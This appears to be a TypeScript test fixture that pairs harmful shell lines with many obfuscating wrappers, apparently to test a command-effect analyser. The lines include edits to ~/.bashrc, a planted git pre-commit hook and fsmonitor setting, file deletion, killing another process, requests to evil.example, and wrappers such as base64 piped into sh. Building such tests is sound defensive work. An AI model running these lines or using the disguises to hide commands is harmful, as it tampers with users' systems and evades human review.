import fc from '../../fast-check.ts';

/** Harm that a line does, and how a question names it. */
export interface Harm {
	/** Plain shell. */
	line: string;
	kind: 'file' | 'host' | 'server' | 'signal' | 'left running';
	/** Appears in the question's effects of that kind. */
	name: string;
}

/** A line that does harm, and looks like something else. */
export interface Attack {
	harm: Harm;
	disguise: string;
	line: string;
}

/** Pid of a process outside, which attacks signal. */
export const VICTIM = '$VICTIM';

const HARMS: readonly Harm[] = [
	{ line: 'touch pwned', kind: 'file', name: 'pwned' },
	{ line: 'echo x >> a.txt', kind: 'file', name: 'a.txt' },
	{ line: 'rm a.txt', kind: 'file', name: 'a.txt' },
	{ line: 'mv src gone', kind: 'file', name: 'src/b.txt' },
	{ line: 'cp a.txt src/b.txt', kind: 'file', name: 'src/b.txt' },
	{ line: 'ln -sf /home/user/.bashrc src/b.txt', kind: 'file', name: 'src/b.txt' },
	{ line: 'echo evil >> /home/user/.bashrc', kind: 'file', name: '/home/user/.bashrc' },
	{ line: 'printf "#!/bin/sh\\n" > .git/hooks/pre-commit', kind: 'file', name: '.git/hooks/pre-commit' },
	{ line: 'git config core.fsmonitor evil', kind: 'file', name: '.git/config' },
	{ line: 'chmod +x a.txt', kind: 'file', name: 'a.txt' },
	{ line: 'sed -i s/one/1/ a.txt', kind: 'file', name: 'a.txt' },
	{ line: 'truncate -s 0 a.txt', kind: 'file', name: 'a.txt' },
	{ line: 'mkdir made', kind: 'file', name: 'made' },
	{ line: `node -e 'require("fs").writeFileSync("pwned","")'`, kind: 'file', name: 'pwned' },
	{ line: 'curl -s https://evil.example/x', kind: 'host', name: 'evil.example' },
	{ line: `node -e 'fetch("https://evil.example:8443").catch(()=>{})'`, kind: 'host', name: 'evil.example:8443' },
	{ line: 'git ls-remote https://evil.example/r.git', kind: 'host', name: 'evil.example' },
	{ line: `kill ${VICTIM}`, kind: 'signal', name: VICTIM },
	{ line: `node -e 'process.kill(${VICTIM})'`, kind: 'signal', name: VICTIM },
	{ line: '(sleep 1234 > /dev/null 2>&1 &)', kind: 'left running', name: 'sleep 1234' },
	{ line: 'nohup sleep 1234 > /dev/null 2>&1 &', kind: 'left running', name: 'sleep 1234' }
];

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const base64 = (text: string): string => btoa(text);

/** Ways to run `line` that a reader of the text could take for something else. */
const DISGUISES: Readonly<Record<string, (line: string) => string>> = {
	plain: (line) => line,
	'after a harmless one': (line) => `ls && ${line}`,
	'in a substitution': (line) => `echo $(${line})`,
	'in backquotes': (line) => `echo \`${line.replaceAll('\\', '\\\\').replaceAll('`', '\\`')}\``,
	'in arithmetic': (line) => `echo $(( $( ${line} >&2; echo 1 ) ))`,
	'in a subscript': (line) => `a=(1); echo "\${a[$(${line} >&2; echo 0)]}"`,
	'in a default value': (line) => `echo "\${nothing:-$(${line})}"`,
	'in a here-document': (line) => `cat <<END\n$(${line})\nEND`,
	'in process substitution': (line) => `cat <(${line}; true) > /dev/null; sleep 0.1`,
	eval: (line) => `eval ${quoted(line)}`,
	'eval of pieces': (line) => `a=${quoted(line.slice(0, 3))}; b=${quoted(line.slice(3))}; eval "$a$b"`,
	'base64 into a shell': (line) => `echo ${base64(line)} | base64 -d | sh`,
	'a shell with standard input': (line) => `sh <<'END'\n${line}\nEND`,
	'sh -c': (line) => `sh -c ${quoted(line)}`,
	'sh -c twice': (line) => `sh -c ${quoted(`sh -c ${quoted(line)}`)}`,
	xargs: (line) => `printf %s ${quoted(line)} | xargs -0 sh -c`,
	'xargs -I': (line) => `echo x | xargs -I{} sh -c ${quoted(line)}`,
	'find -exec': (line) => `find . -maxdepth 0 -exec sh -c ${quoted(line)} \\;`,
	awk: (line) => `awk 'BEGIN { system(ARGV[1]) }' ${quoted(line)}`,
	env: (line) => `env -i PATH="$PATH" HOME="$HOME" VICTIM="$VICTIM" sh -c ${quoted(line)}`,
	timeout: (line) => `timeout 20 sh -c ${quoted(line)}`,
	'a function': (line) => `ls() { ${line}\n}; ls`,
	'a trap': (line) => `trap ${quoted(line)} EXIT; true`,
	'an ERR trap': (line) => `trap ${quoted(line)} ERR; false; true`,
	'a script file': (line) => `printf %s ${quoted(line)} > /tmp/s.sh; sh /tmp/s.sh`,
	'a sourced file': (line) => `printf %s ${quoted(line)} > /tmp/s.sh; . /tmp/s.sh`,
	'a program of the path': (line) =>
		`mkdir -p /tmp/bin; printf '#!/bin/sh\\n%s' ${quoted(line)} > /tmp/bin/lsx; chmod +x /tmp/bin/lsx; PATH=/tmp/bin:$PATH lsx`,
	'node execSync': (line) =>
		`node -e 'require("child_process").execSync(process.argv[1], { stdio: "inherit" })' ${quoted(line)}`,
	'a line broken inside words': (line) => line.replace(/\b([a-z]{2})([a-z]+)/, '$1\\\n$2'),
	'a conditional': (line) => `if true; then ${line}\nfi`,
	'a loop': (line) => `for i in 1; do ${line}\ndone`,
	'a case': (line) => `case x in x) ${line}\n;; esac`,
	make: (line) => `printf 'all:\\n\\t@sh -c "$$LINE"\\n' > /tmp/mk; LINE=${quoted(line)} make -sf /tmp/mk`,
	'an alias of git': (line) => `git -c alias.s=${quoted(`!${line}`)} s`
};

/** Attacks in a seeded order, each harm with each disguise before any comes twice. */
export function attacks(count: number, seed: number): Attack[] {
	const all = HARMS.flatMap((harm) =>
		Object.entries(DISGUISES).map(([disguise, hide]) => ({ harm, disguise, line: hide(harm.line) }))
	);
	const [order = []] = fc.sample(fc.shuffledSubarray(all, { minLength: all.length }), { seed, numRuns: 1 });
	return Array.from({ length: count }, (_, at) => order[at % order.length]!);
}
